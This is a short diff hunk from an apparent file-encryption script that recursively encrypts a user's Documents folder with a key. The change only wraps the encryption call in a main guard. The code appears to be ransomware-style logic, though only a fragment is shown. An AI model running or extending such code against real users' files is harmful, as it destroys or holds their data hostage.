@@ -57,6 +57,7 @@ def auxEncryption(K1,folderpath):
         elif os.path.isdir(currentPath):
             auxEncryption(K1,currentPath) # Recursivity for subfolders
 # ENCRYPTION OF FOLDER
-folderpath = user_documents_dir()
-print(folderpath)
-encryption(folderpath)
\ No newline at end of file
+if __name__ == "__main__":
+    folderpath = user_documents_dir()
+    print(folderpath)
+    encryption(folderpath)
\ No newline at end of file